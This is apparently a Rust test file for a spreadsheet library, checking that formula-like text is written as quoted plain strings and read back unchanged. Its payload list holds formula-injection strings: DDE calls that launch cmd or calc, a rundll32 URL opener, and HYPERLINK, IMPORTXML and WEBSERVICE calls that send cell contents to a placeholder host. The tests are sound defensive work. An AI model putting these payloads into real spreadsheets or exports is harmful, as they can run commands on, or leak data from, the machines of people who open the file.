//! Texts that look like formulas: in every kind of column they are written, and read again, as the texts they are.

use files::xlsx::{Cell, Column, Kind, Sheet, workbook};
use files::xlsx_in::{Place, Value, read};
use jiff::civil::{Date, date};
use proptest::prelude::*;

use crate::xlsx_marked::unpacked;

const KINDS: [Kind; 5] = [Kind::Text, Kind::Code, Kind::Int, Kind::Decimal(2), Kind::Date];
const SIGNS: [&str; 16] =
    ["", "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", "'=", "\"=", "\u{feff}="];
const BODIES: [&str; 16] = [
    "1+1",
    "cmd|' /C calc'!A0",
    "SUM(A1:A9)",
    "2+3",
    "HYPERLINK(\"http://vi.du/?a=\"&A1,\"Xem\")",
    "DDE(\"cmd\";\"/C calc\";\"x\")",
    "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
    "IMPORTXML(CONCAT(\"http://vi.du/\",A1),\"//a\")",
    "WEBSERVICE(\"http://vi.du/\")",
    "rundll32|'URL.dll,OpenURL http://vi.du'!A",
    "{1;2}",
    "R1C1",
    "#REF!",
    "0123",
    "1e5",
    "30/06/2026",
];

/// Texts that some program could take for formulas, numbers or links.
fn payloads() -> Vec<String> {
    let signed = SIGNS.iter().flat_map(|sign| BODIES.iter().map(move |body| format!("{sign}{body}")));
    let alone = ["TRUE", "http://vi.du", "mailto:a@vi.du", "<f>1+1</f>", "{=1+1}", "=", "-", "- gạch đầu dòng"];
    signed.chain(alone.map(str::to_owned)).collect()
}

/// What is left of a text in a cell: no control signs but breaks of lines and tabs.
fn kept(text: &str) -> String {
    text.chars().filter(|c| matches!(c, '\n' | '\t') || !c.is_control()).collect()
}

fn sheet(rows: Vec<Vec<Cell>>, header: &str) -> Sheet {
    let columns = KINDS.map(|kind| Column { header: header.to_owned(), width: 20, kind });
    Sheet { title: "=1+1".to_owned(), columns: columns.to_vec(), rows }
}

/// The tags of cells in a sheet's XML, by their addresses.
fn tags(xml: &str) -> impl Iterator<Item = &str> {
    xml.split("<c ").skip(1).map(|rest| rest.split_once('>').map_or(rest, |(tag, _)| tag))
}

#[test]
fn no_text_becomes_a_formula_in_any_kind_of_column() {
    let payloads = payloads();
    assert!(payloads.len() >= 200, "{}", payloads.len());
    let rows = payloads.iter().map(|text| vec![Cell::Text(text.clone()); KINDS.len()]).collect();
    let bytes = workbook(&[sheet(rows, "=HEADER()")], "=1+1").unwrap();
    let parts = unpacked(&bytes);
    let xml = String::from_utf8(parts["xl/worksheets/sheet1.xml"].clone()).unwrap();
    assert!(!xml.contains("<f>") && !xml.contains("<f ") && !xml.contains("<f/>") && !xml.contains("<hyperlink"));
    assert!(!parts.contains_key("xl/calcChain.xml") && !parts.keys().any(|part| part.contains("externalLink")));
    assert!(tags(&xml).all(|tag| tag.ends_with("t=\"s\"")), "every cell is a shared text");
    assert_eq!(tags(&xml).count(), (payloads.len() + 1) * KINDS.len());

    let read = read(&bytes).unwrap();
    for (row, text) in (1..).zip(&payloads) {
        for column in 0..KINDS.len() as u32 {
            let value = read.sheets[0].at(Place { row, column });
            assert_eq!(value, Some(&Value::Text(kept(text))), "{text:?} in {:?}", KINDS[column as usize]);
        }
    }
    assert_eq!(read.sheets[0].at(Place { row: 0, column: 4 }), Some(&Value::Text("=HEADER()".to_owned())));
}

#[test]
fn texts_that_begin_like_formulas_are_marked_as_quoted() {
    let quoted = |text: &str| {
        let bytes = workbook(&[sheet(vec![vec![text.into()]], "TT")], "UBND").unwrap();
        String::from_utf8(unpacked(&bytes)["xl/styles.xml"].clone()).unwrap().contains("quotePrefix=\"1\"")
    };
    for text in ["=1+1", "+1", "-1", "@A", "\t=1", "\r=1", "\n=1", "  =1", "＝1", "＋1", "－1", "＠A", "\u{0}=1"] {
        assert!(quoted(text), "{text:?}");
    }
    assert!(!quoted("1=1") && !quoted(" a"));
    let headed = workbook(&[sheet(Vec::new(), "=1+1")], "UBND").unwrap();
    assert!(String::from_utf8(unpacked(&headed)["xl/styles.xml"].clone()).unwrap().contains("quotePrefix=\"1\""));
}

/// A value and what is read of it.
fn value() -> impl Strategy<Value = (Cell, Option<Value>)> {
    let text = |text: String| if text.is_empty() { None } else { Some(Value::Text(text)) };
    let day = |day: Date| {
        if day < date(1900, 1, 1) { Value::Text(day.strftime("%d/%m/%Y").to_string()) } else { Value::Date(day) }
    };
    prop_oneof![
        1 => Just((Cell::Empty, None)),
        4 => "[-=+@＝]?[ -^`-~\\n\\tếộĐ]{0,60}".prop_map(move |written| (Cell::Text(written.clone()), text(written))),
        2 => (-(1_i64 << 53)..1 << 53).prop_map(|number| (Cell::Int(number), Some(Value::Number(number.to_string())))),
        2 => (-99_999_999..99_999_999_i64).prop_map(|cents| {
            let number = cents as f64 / 100.0;
            (Cell::Number(number), Some(Value::Number(number.to_string())))
        }),
        2 => (1_850..=9_999_i16, 1..=12_i8, 1..=28_i8).prop_map(move |(year, month, of_month)| {
            let written = date(year, month, of_month);
            (Cell::Date(written), Some(day(written)))
        }),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(150))]

    #[test]
    fn values_come_back_as_they_were_written(rows in prop::collection::vec(prop::collection::vec(value(), 5), 0..8)) {
        // A number in a column of dates is shown as a date, and is read as one.
        let fits = |column: usize, cell: &Cell| column != 4 || !matches!(cell, Cell::Int(_) | Cell::Number(_));
        let rows: Vec<Vec<(Cell, Option<Value>)>> = rows.into_iter().map(|row| {
            let cells = row.into_iter().enumerate();
            cells.map(|(at, cell)| if fits(at, &cell.0) { cell } else { (Cell::Empty, None) }).collect()
        }).collect();
        // A date is one where its column shows dates.
        let shown = |column: usize, value: &Option<Value>| column == 4 || !matches!(value, Some(Value::Date(_)));
        let written = rows.iter().map(|row| row.iter().map(|(cell, _)| cell.clone()).collect()).collect();
        let read = read(&workbook(&[sheet(written, "TT")], "UBND").unwrap()).unwrap();
        for (row, cells) in (1..).zip(&rows) {
            for (at, (_, value)) in cells.iter().enumerate().filter(|(at, (_, value))| shown(*at, value)) {
                let there = read.sheets[0].at(Place { row, column: at as u32 });
                prop_assert_eq!(there, value.as_ref());
            }
        }
    }
}
